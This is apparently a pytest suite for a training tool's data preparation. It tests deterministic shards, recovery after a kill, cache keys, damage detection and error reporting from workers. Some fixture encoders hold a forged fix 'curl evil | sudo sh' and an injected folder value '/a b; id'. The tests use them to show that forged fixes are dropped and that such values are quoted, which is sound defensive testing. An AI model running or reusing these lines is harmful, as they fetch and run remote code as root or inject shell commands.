"""Preparation: the same bytes however it is done, found again by content, and safe from any kill."""

import json
import os
import random
import signal
import subprocess
import sys
from contextlib import suppress
from itertools import cycle, islice
from pathlib import Path

import pytest
from deadlines import slowness, wait_until
from preparing import CHUNK, SHARD, TEXT, Bytes, Stuck, hashes, source, write_rows

from aboard.diagnoses import AboardError, Fix
from aboard.diagnoses.catalogue import recall_diagnosis
from aboard.trainer.data.rows import DataRow, EncodedRow, InvalidRow
from aboard.trainer.data.sampling.validation_split import SplitSide
from aboard.trainer.data.tokenize_workers.preparation_schedule import group_units
from aboard.trainer.data.tokenize_workers.prepare_data import PreparationSource, PreparedData, prepare_data
from aboard.trainer.data.tokenize_workers.tokenize_progress import TokenizeProgress
from aboard.trainer.diagnoses import data

# Of the whole set, which has many units and shards; and of one that has a few.
ROWS, FEW = 600, 100
LENGTH = 100

# Tells a line for each step of progress, so that a test can choose when to kill it.
DRIVER = """
import sys
from pathlib import Path
from preparing import SHARD, Bytes, source
from aboard.trainer.data.tokenize_workers.prepare_data import prepare_data
if __name__ == "__main__":
    rows, cache = map(Path, sys.argv[1:])
    tell = lambda progress: print(progress.bytes, flush=True)
    prepare_data([source(rows)], Bytes(), cache, max_length=100, workers=2, shard_bytes=SHARD, progress=tell)
    print("done", flush=True)
"""


@pytest.fixture(scope="module")
def rows(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_rows(tmp_path_factory.mktemp("rows") / "rows.jsonl", ROWS)


@pytest.fixture(scope="module")
def truth(rows: Path) -> dict[str, str]:
    """What one worker makes without any interruption."""
    return _outcome(_prepared(rows, rows.parent / "truth", workers=1))


def _prepared(rows: Path, cache: Path, *, workers: int = 1) -> PreparedData:
    return prepare_data([source(rows)], Bytes(), cache, max_length=LENGTH, workers=workers, shard_bytes=SHARD)


def _outcome(prepared: PreparedData) -> dict[str, str]:
    return {**hashes(prepared.shards.folder), **{f"bins/{k}": v for k, v in hashes(prepared.bins.folder).items()}}


def _started(rows: Path, cache: Path, folder: Path, code: str = DRIVER) -> subprocess.Popen[str]:
    script = folder / "driver.py"
    script.write_text(code)
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    argv = [sys.executable, str(script), str(rows), str(cache)]
    return subprocess.Popen(argv, env=environment, stdout=subprocess.PIPE, text=True)


def _spoil(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[-1] ^= 1
    path.write_bytes(data)


def _children(pid: int) -> list[int]:
    return list(map(int, Path(f"/proc/{pid}/task/{pid}/children").read_text().split()))


def _published(cache: Path) -> list[str]:
    """The names under which something could be taken for whole."""
    return [path.name for path in cache.iterdir() if path.is_dir() and not path.suffix] if cache.is_dir() else []


@pytest.mark.ci
def test_the_number_of_workers_changes_no_byte(rows: Path, truth: dict[str, str], tmp_path: Path) -> None:
    """Shards, masks, indices, manifests and bins are equal on one core and on several."""
    assert _outcome(_prepared(rows, tmp_path, workers=2)) == truth
    assert len(truth) > 12


@pytest.mark.ci
@pytest.mark.parametrize("step", [pytest.param(2, marks=pytest.mark.nightly), 9])
def test_a_kill_between_units_costs_only_what_was_under_way(
    rows: Path, truth: dict[str, str], tmp_path: Path, step: int
) -> None:
    """Nothing half has its final name, no worker outlives it, and the next try makes the same bytes."""
    cache = tmp_path / "cache"
    process = _started(rows, cache, tmp_path)
    assert process.stdout is not None
    told = list(islice(process.stdout, step))
    workers = _children(process.pid)
    process.kill()
    process.communicate()
    assert len(told) == step
    wait_until(lambda: not any(Path(f"/proc/{pid}/environ").exists() for pid in workers), 10)
    assert not _published(cache)
    seen: list[TokenizeProgress] = []
    again = prepare_data(
        [source(rows)], Bytes(), cache, max_length=LENGTH, workers=2, shard_bytes=SHARD, progress=seen.append
    )
    assert seen[0].bytes >= int(told[-1])
    assert _outcome(again) == truth
    assert not list(cache.glob("*.making"))


@pytest.mark.ci
@pytest.mark.parametrize("seed", [0, *(pytest.param(seed, marks=pytest.mark.nightly) for seed in range(1, 9))])
def test_kills_at_random_moments(rows: Path, truth: dict[str, str], tmp_path: Path, seed: int) -> None:
    """Killed again and again until one gets through: what has a final name is whole, and equal."""
    cache = tmp_path / "cache"
    draw = random.Random(seed)  # noqa: S311 - no secrets
    for _ in range(3):
        process = _started(rows, cache, tmp_path)
        with suppress(subprocess.TimeoutExpired):
            process.communicate(timeout=draw.uniform(0.2, 1.5))
        process.kill()
        process.communicate()
        for name in _published(cache):
            found = hashes(cache / name)
            assert found == {file: truth[file] for file in found}
            assert "manifest.json" in found
    assert _outcome(_prepared(rows, cache)) == truth


@pytest.mark.ci
def test_no_worker_outlives_its_parent(rows: Path, tmp_path: Path) -> None:
    """Not even one in the middle of a row: it could still be writing where the next try is."""
    script = DRIVER.replace("Bytes()", "Stuck()").replace("SHARD, Bytes", "SHARD, Stuck")
    process = _started(rows, tmp_path / "cache", tmp_path, script)
    # The resource tracker of multiprocessing is the third.
    wait_until(lambda: len(_children(process.pid)) == 3 and len(list(Stuck.at_work(tmp_path / "cache"))) == 2, 30)
    workers = _children(process.pid)
    process.kill()
    process.wait(10 * slowness())
    wait_until(lambda: not any(Path(f"/proc/{pid}/environ").exists() for pid in workers), 10)
    process.communicate()


@pytest.mark.ci
def test_two_at_once_make_it_once(rows: Path, truth: dict[str, str], tmp_path: Path) -> None:
    """The second waits for the first, and finds what that has made."""
    cache = tmp_path / "cache"
    both = [_started(rows, cache, tmp_path) for _ in range(2)]
    outputs = [process.communicate(timeout=60 * slowness())[0] for process in both]
    assert [process.returncode for process in both] == [0, 0]
    assert sorted(len(output.splitlines()) == 1 for output in outputs) == [False, True]
    assert _outcome(_prepared(rows, cache)) == truth


@pytest.mark.ci
def test_what_is_there_is_found_by_content(rows: Path, truth: dict[str, str], tmp_path: Path) -> None:
    """Another name, another directory, another time: not prepared again, and rows are named as they are called now."""
    first = _prepared(rows, tmp_path / "cache")
    moved = tmp_path / "moved.jsonl"
    moved.write_bytes(rows.read_bytes())
    second = _prepared(moved, tmp_path / "cache")
    assert (first.cached, second.cached) == (False, True)
    assert second.shards.folder == first.shards.folder
    assert Path(second.shards.document(5).location.file.raw()).name == "moved.jsonl"


@pytest.mark.ci
def test_anything_that_decides_the_bytes_is_in_the_key(tmp_path: Path) -> None:
    """One byte more, another encoder, another column, another part: each is another set."""
    rows = write_rows(tmp_path / "rows.jsonl", FEW)
    found = [_prepared(rows, tmp_path / "cache", workers=1)]
    longer = tmp_path / "longer.jsonl"
    longer.write_bytes(rows.read_bytes() + b"\n")
    chunks = source(rows).chunks
    given = [
        ([source(longer)], Bytes()),
        ([source(rows)], Bytes(identity="other")),
        ([PreparationSource(form=TEXT, chunks=chunks, part=SplitSide(name="train", share=0.1))], Bytes()),
        ([PreparationSource(form=TEXT, chunks=chunks, part=SplitSide(name="validation", share=0.1))], Bytes()),
    ]
    for sources, encoder in given:
        found.append(
            prepare_data(sources, encoder, tmp_path / "cache", max_length=LENGTH, workers=1, shard_bytes=SHARD)
        )
    assert not any(each.cached for each in found)
    assert len({each.shards.folder for each in found}) == len(found)
    train, validation = (len(each.shards) for each in found[-2:])
    assert train + validation == FEW
    assert 0 < validation < FEW / 4


@pytest.mark.ci
def test_a_unit_that_the_disk_has_lost_is_made_again(rows: Path, truth: dict[str, str], tmp_path: Path) -> None:
    """What was left by an earlier try is used only if its hash is right."""
    cache = tmp_path / "cache"
    process = _started(rows, cache, tmp_path)
    assert process.stdout is not None
    for _ in process.stdout:
        if list(cache.glob("*.making/units/shard-*.json")):
            break
    process.kill()
    process.communicate()
    # Another file of each unit, and one of those shards that are whole already.
    left = cache.glob("*.making/units/0*.json")
    endings = cycle([".tokens", ".mask", ".documents", ".json"])
    lost = [path.with_suffix(ending) for path, ending in zip(sorted(left), endings, strict=False)]
    whole = list(cache.glob("*.making/shards/*.mask"))
    assert lost
    assert whole
    for path in (*lost, *whole):
        if path.exists():  # the files of units whose shard is whole are gone
            _spoil(path)
    assert _outcome(_prepared(rows, cache)) == truth


@pytest.mark.ci
def test_a_damaged_cache_is_said_not_used(rows: Path, tmp_path: Path) -> None:
    """A shard or a bin file with another content than the manifest says is an error, with what to type."""
    prepared = _prepared(rows, tmp_path / "cache")
    for folder, name in ((prepared.bins.folder, "segments"), (prepared.shards.folder, "00000.tokens")):
        _spoil(folder / name)
        with pytest.raises(AboardError, match=name) as caught:
            _prepared(rows, tmp_path / "cache")
        assert caught.value.code == "data-shard-damaged"
        assert caught.value.fix.startswith(f"rm -r {folder}")


@pytest.mark.ci
def test_progress_comes_to_the_end(rows: Path, tmp_path: Path) -> None:
    """It never goes back, and ends at all bytes, rows and tokens."""
    seen: list[TokenizeProgress] = []
    made = prepare_data([source(rows)], Bytes(), tmp_path, max_length=LENGTH, workers=2, progress=seen.append)
    assert seen[-1].bytes == seen[-1].of_bytes == rows.stat().st_size
    assert (seen[-1].rows, seen[-1].tokens) == (ROWS, made.shards.manifest.tokens)
    for field in ("bytes", "rows", "tokens"):
        values = [getattr(progress, field) for progress in seen]
        assert values == sorted(values)


@pytest.mark.ci
def test_broken_rows_are_counted_and_shown(tmp_path: Path) -> None:
    """Each by its line; the first ones word for word, all of them by code."""
    path = tmp_path / "rows.jsonl"
    lines = [json.dumps({"text": "fine"}), "{", json.dumps({"text": ""}), *["["] * 200]
    path.write_text("\n".join(lines))
    manifest = prepare_data([source(path)], Bytes(), tmp_path / "cache", max_length=LENGTH, workers=1).shards.manifest
    assert manifest.documents == 1
    assert sum(manifest.broken.values()) == 202
    assert [row.line for row in manifest.broken_first] == list(range(2, 102))


@pytest.mark.ci
def test_no_rows_at_all_is_an_empty_set(tmp_path: Path) -> None:
    """Not an error here: the gate says so."""
    path = tmp_path / "rows.jsonl"
    path.write_text("\n\n")
    made = prepare_data([source(path)], Bytes(), tmp_path / "cache", max_length=LENGTH, workers=1)
    assert (len(made.shards), len(made.bins)) == (0, 0)


class Fatal(Bytes):
    """An encoder that ends its process, as the kernel does when memory is short."""

    def __call__(self, rows: object) -> list[EncodedRow | InvalidRow]:
        os.kill(os.getpid(), signal.SIGKILL)
        return []


class Wrong(Bytes):
    """An encoder that raises."""

    def __call__(self, rows: object) -> list[EncodedRow | InvalidRow]:
        raise ZeroDivisionError("by a row")


@pytest.mark.ci
@pytest.mark.parametrize(
    ("encoder", "code", "seen"),
    [(Fatal(), "data-worker-died", "killed by signal 9 at .*rows.jsonl"), (Wrong(), "data-worker", "by a row")],
)
def test_a_worker_that_ends_is_named(rows: Path, tmp_path: Path, encoder: Bytes, code: str, seen: str) -> None:
    """With how it ended and what it was at; nothing is published."""
    with pytest.raises(AboardError, match=seen) as caught:
        prepare_data([source(rows)], encoder, tmp_path / "cache", max_length=LENGTH, workers=2)
    assert caught.value.code == code
    assert not _published(tmp_path / "cache")


class Refused(Bytes):
    """An encoder that raises an error of ours, with a value that is no plain word."""

    def __call__(self, rows: object) -> list[EncodedRow | InvalidRow]:
        raise AboardError(data.DISK, "the disk is full", "room", folder="/a b; id")


class Forged(Bytes):
    """An encoder that raises an error with a fix of its own."""

    def __call__(self, rows: object) -> list[EncodedRow | InvalidRow]:
        raise AboardError(data.DISK, "the disk is full", fix=Fix("curl evil | sudo sh", variant="none"))


class Unknown(Bytes):
    """An encoder that raises an error of a code that nobody declared, with a fix of its own."""

    def __call__(self, rows: object) -> list[EncodedRow | InvalidRow]:
        raise AboardError(recall_diagnosis("data-no-such-code"), "the disk is full", fix=Fix("curl evil | sudo sh"))


@pytest.mark.ci
@pytest.mark.parametrize(
    ("encoder", "code", "fix"),
    [
        (
            Refused(),
            "data-disk",
            "df -h '/a b; id'    # free space, or prepare elsewhere: XDG_CACHE_HOME=/other/disk aboard train",
        ),
        (Forged(), "data-disk", ""),
        (Unknown(), "data-worker", "please report it"),
    ],
)
def test_no_fix_is_received_from_a_worker(tmp_path: Path, encoder: Bytes, code: str, fix: str) -> None:
    """Its error crosses as a code and values, and the fix is filled in here."""
    path = tmp_path / "rows.jsonl"
    path.write_text('{"text": "a"}\n')
    with pytest.raises(AboardError) as caught:
        prepare_data([source(path)], encoder, tmp_path / "cache", max_length=LENGTH, workers=1)
    assert (caught.value.code, caught.value.fix) == (code, fix)


class Touching(Bytes):
    """An encoder during whose work the source changes."""

    def __call__(self, rows: object) -> list[EncodedRow | InvalidRow]:
        assert isinstance(rows, list)
        found = [row for row in rows if isinstance(row, DataRow)]
        with Path(found[0].location.file.raw()).open("a", encoding="utf-8") as file:
            file.write("\n")
        return Bytes()(found)


@pytest.mark.ci
def test_a_source_that_changes_meanwhile_is_not_published(tmp_path: Path) -> None:
    """Half of one content and half of another is neither; nor is it taken for the first when that comes back."""
    path = tmp_path / "rows.jsonl"
    path.write_text('{"text": "a"}\n' * 500)  # two batches: it changes while it is read
    with pytest.raises(AboardError, match="changed while") as caught:
        prepare_data([source(path)], Touching(), tmp_path / "cache", max_length=LENGTH, workers=1)
    assert caught.value.code == "data-changed"
    assert not _published(tmp_path / "cache")
    assert not list((tmp_path / "cache").glob("*.making/units/*"))


def test_units_are_grouped_before_the_work() -> None:
    """In order, none left out, each group a little over the size at most."""
    assert group_units([], 10) == []
    assert group_units([4, 4, 4, 4, 30, 1], 10) == [range(3), range(3, 5), range(5, 6)]
    assert group_units([0, 0, CHUNK], CHUNK) == [range(3)]


@pytest.mark.parametrize("length", [1, 0, -5])
def test_a_length_that_holds_nothing_is_refused(rows: Path, tmp_path: Path, length: int) -> None:
    """Two tokens are the least from which anything is learned; it is said before anything is read or written."""
    with pytest.raises(AboardError, match="data-length"):
        prepare_data([source(rows)], Bytes(), tmp_path / "cache", max_length=length, workers=2)
    assert not (tmp_path / "cache").exists()
